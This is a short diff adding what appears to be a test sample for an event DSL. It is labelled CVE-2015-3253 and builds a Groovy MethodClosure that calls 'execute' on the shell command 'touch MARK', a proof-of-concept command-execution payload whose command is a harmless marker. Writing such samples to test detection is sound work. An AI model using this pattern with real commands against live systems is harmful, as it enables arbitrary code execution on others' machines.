@@ -1,0 +1,8 @@
+// CVE-2015-3253 (Groovy: MethodClosure)
+// a MethodClosure is built
+event X {
+    on { 'a' }
+    as {
+        new org.codehaus.groovy.runtime.MethodClosure('touch MARK', 'execute').call()
+    }
+}
